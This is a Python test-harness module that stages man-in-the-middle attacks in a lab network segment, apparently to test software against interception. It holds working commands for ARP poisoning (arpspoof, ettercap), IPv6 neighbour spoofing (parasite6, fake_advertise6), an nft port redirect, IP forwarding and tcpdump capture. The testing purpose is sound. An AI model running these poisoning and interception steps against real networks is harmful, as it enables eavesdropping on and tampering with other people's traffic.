"""The attacker's tools, as Debian has them: arpspoof, ettercap, parasite6 and fake_advertise6 for the way, nft to redirect, tcpdump to record."""

from __future__ import annotations

import contextlib
import socket
import subprocess
import time
from collections.abc import Callable, Iterator
from pathlib import Path

from tests.attack.places import Lab, LabError, Program, until
from tests.attack.segment import ATTACKER, DESTINATION, DEVICE, SOURCE, Family, Segment, address

_POISONED_SECONDS = 20.0
_STEADY = 3  # looks, so that the honest answer has not come behind the forged one


def _up(_program: Program) -> bool:
    return True


def _poke(segment: Segment, family: Family) -> None:
    """Have the source look for the destination, as any connection would."""
    kind = socket.AF_INET6 if family is Family.IPV6 else socket.AF_INET
    with segment.inside(SOURCE), socket.socket(kind, socket.SOCK_DGRAM) as sock, contextlib.suppress(OSError):
        sock.sendto(b"", (address(DESTINATION, family), 9))


def wait_poisoned(lab: Lab, family: Family, seconds: float = _POISONED_SECONDS) -> None:
    """Until the source takes the attacker's hardware address for the destination's."""
    attackers = lab.segment.hardware(ATTACKER)

    def poisoned() -> bool:
        _poke(lab.segment, family)
        for _ in range(_STEADY):
            time.sleep(0.1)
            if lab.segment.believed(SOURCE, DESTINATION, family) != attackers:
                return False
        return True

    until(poisoned, "the source's neighbour table poisoned", seconds)


@contextlib.contextmanager
def _poisoned(lab: Lab, family: Family, *commands: list[str], stdin: int = subprocess.DEVNULL) -> Iterator[None]:
    """Run tools that poison for a while; afterwards everybody asks anew."""
    lab.segment.forget_neighbours()
    with contextlib.ExitStack() as stack:
        stack.callback(lab.segment.forget_neighbours)
        for words in commands:
            stack.enter_context(lab.running(ATTACKER, words, ready=_up, stdin=stdin))
        wait_poisoned(lab, family)
        yield


def arpspoof(lab: Lab) -> contextlib.AbstractContextManager[None]:
    """dsniff's: tells each of both hosts that the other is he."""
    pairs = ((SOURCE, DESTINATION), (DESTINATION, SOURCE))
    return _poisoned(lab, Family.IPV4, *(["arpspoof", "-i", DEVICE, "-t", address(one), address(other)] for one, other in pairs))


def ettercap(lab: Lab) -> contextlib.AbstractContextManager[None]:
    """Ettercap's ARP poisoning, both ways; -o: it only poisons, and leaves the packets to the kernel."""
    targets = [f"/{address(host)}//" for host in (SOURCE, DESTINATION)]
    return _poisoned(lab, Family.IPV4, ["ettercap", "-T", "-o", "-i", DEVICE, "-M", "arp:remote", *targets], stdin=subprocess.PIPE)


def spoofed_neighbours(lab: Lab) -> contextlib.AbstractContextManager[None]:
    """thc-ipv6's: parasite6 answers every neighbour solicitation; fake_advertise6 says the same unasked, again and again."""
    own = lab.segment.hardware(ATTACKER)
    pairs = ((SOURCE, DESTINATION), (DESTINATION, SOURCE))
    advertise = (
        ["atk6-fake_advertise6", "-w", "1", DEVICE, address(about, Family.IPV6), address(to, Family.IPV6), own] for to, about in pairs
    )
    return _poisoned(lab, Family.IPV6, ["atk6-parasite6", "-l", DEVICE, own], *advertise)


POISONERS: dict[str, tuple[Family, Callable[[Lab], contextlib.AbstractContextManager[None]]]] = {
    "arpspoof": (Family.IPV4, arpspoof),
    "ettercap": (Family.IPV4, ettercap),
    "parasite6 and fake_advertise6": (Family.IPV6, spoofed_neighbours),
}


def _nft(segment: Segment, text: str) -> None:
    with segment.inside(ATTACKER):
        done = subprocess.run(["/usr/sbin/nft", "-f", "-"], input=text, capture_output=True, text=True, check=False)
    if done.returncode:
        raise LabError(f"nft: {done.stderr.strip()}")


@contextlib.contextmanager
def redirected(segment: Segment, port: int, to: int) -> Iterator[None]:
    """What comes to the attacker for a port of the destination's goes to a port of his own."""
    chain = "type nat hook prerouting priority dstnat;"
    rule = f'iifname "{DEVICE}" tcp dport {port} counter redirect to :{to}'
    _nft(segment, f"table inet attack {{\n chain prerouting {{\n {chain}\n {rule}\n }}\n}}\n")
    try:
        yield
    finally:
        _nft(segment, "delete table inet attack\n")


@contextlib.contextmanager
def forwarding(segment: Segment) -> Iterator[None]:
    """The attacker passes on what is not for him, as a router does."""
    switches = [Path("/proc/sys/net", name) for name in ("ipv4/ip_forward", "ipv6/conf/all/forwarding")]

    def turn(value: str) -> None:
        with segment.inside(ATTACKER):
            for switch in switches:
                switch.write_text(value)

    turn("1")
    try:
        yield
    finally:
        turn("0")


@contextlib.contextmanager
def recording(lab: Lab, path: Path, port: int, *, host: str = ATTACKER) -> Iterator[None]:
    """Tcpdump writes what passes by to and from a port; complete on leaving."""
    words = ["tcpdump", "-i", DEVICE, "-U", "-s", "0", "-B", "16384", "-Z", "root", "-w", str(path), "tcp", "port", str(port)]
    with lab.running(host, words, ready=lambda program: "listening on" in program.said()):
        yield
        time.sleep(0.3)  # what is still on its way to the file
